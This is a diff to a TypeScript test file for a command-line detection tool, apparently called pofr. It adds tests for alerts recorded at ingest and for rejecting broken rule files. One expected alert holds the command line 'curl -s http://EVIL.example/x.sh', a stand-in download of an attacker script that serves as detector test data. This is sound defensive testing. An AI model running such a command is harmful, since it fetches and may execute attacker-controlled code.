@@ -3,6 +3,7 @@ import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, test } from 'node:test';
+import { type CompiledRule, compileRule, parseRule, recordAlerts } from '../../src/detect/index.js';
 import { initStoreConfig, openStore, readStoreConfig } from '../../src/store/index.js';
 import { huntFixture } from '../detect/detect-fixture.js';
 import { jsonLines, pofr } from '../helpers/pofr-cli.js';
@@ -24,6 +25,7 @@ const BROKEN =
 
 let dir = '';
 let hashes: string[] = [];
+let liveHashes: string[] = [];
 
 before(async () => {
   dir = mkdtempSync(join(tmpdir(), 'pofr-hunt-cli-'));
@@ -33,6 +35,15 @@ before(async () => {
     hashes = (await huntFixture(store)).hashes;
   } finally {
     await store.close();
+  }
+  // A store whose batches went through live detection, as `pofr server run --rules` ingests them.
+  initStoreConfig(join(dir, 'live'));
+  const live = await openStore(readStoreConfig(join(dir, 'live')));
+  try {
+    const rule = compileRule(parseRule(GOOD, 'curl.yml'), live.caps) as CompiledRule;
+    liveHashes = (await huntFixture(live, (trx, b) => recordAlerts(trx, [rule], b).then(() => {}))).hashes;
+  } finally {
+    await live.close();
   }
   mkdirSync(join(dir, 'good'));
   writeFileSync(join(dir, 'good', 'curl.yml'), GOOD);
@@ -110,4 +121,52 @@ test('pofr hunt runs the bundled rules by default and refuses a rule set with an
     'nosuch',
   ]);
   assert.notEqual(none.code, 0);
+});
+
+test('pofr alerts --json prints the alerts written at ingest, keyed as hunt', async () => {
+  const r = await pofr(['alerts', '--data', join(dir, 'live'), '--json']);
+  assert.equal(r.code, 0, r.stderr);
+  const rows = jsonLines(r.stdout);
+  assert.equal(rows.length, 1);
+  assert.deepEqual(Object.keys(rows[0]).slice(0, 9), [
+    'time',
+    'host',
+    'pid',
+    'rule_id',
+    'title',
+    'level',
+    'author',
+    'batch_seq',
+    'batch_hash',
+  ]);
+  assert.deepEqual(
+    [rows[0].rule_id, rows[0].author, rows[0].pid, rows[0].batch_seq, rows[0].batch_hash, rows[0].cmdline],
+    [
+      '11111111-1111-4111-8111-111111111111',
+      'Jane Analyst',
+      101,
+      1,
+      liveHashes[0],
+      'curl -s http://EVIL.example/x.sh',
+    ],
+  );
+  const none = await pofr(['alerts', '--data', join(dir, 'data'), '--json']);
+  assert.equal(none.code, 0, none.stderr);
+  assert.equal(none.stdout, '');
+});
+
+test('pofr server run --rules refuses to start on an invalid rule file, naming file and line', async () => {
+  const r = await pofr([
+    'server',
+    'run',
+    '--data',
+    join(dir, 'data'),
+    '--listen',
+    '127.0.0.1:0',
+    '--no-rdns',
+    '--rules',
+    join(dir, 'bad'),
+  ]);
+  assert.equal(r.code, 1, r.stderr);
+  assert.match(r.stderr, /broken\.yml:\d+:\d+/);
 });
